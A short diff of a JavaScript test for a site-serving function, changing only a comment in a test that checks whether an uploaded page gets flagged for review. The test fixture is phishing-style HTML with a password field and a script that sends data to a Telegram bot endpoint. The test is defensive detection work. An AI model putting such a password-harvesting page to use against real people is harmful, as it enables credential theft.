@@ -238,7 +238,7 @@ describe('GET /functions/v1/serve-site', () => {
   });
 
   it('gives a page under review to no page’s script, and to others with a mark', async () => {
-    // Weighs enough for the notice.
+    // The page's score is high enough for the notice.
     const html = '<title>x</title><input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")';
     const created = createSiteAnswerSchema.parse(await (await create({ html_content: html }, { token })).json());
     expect(created.site.under_review).toBe(true);
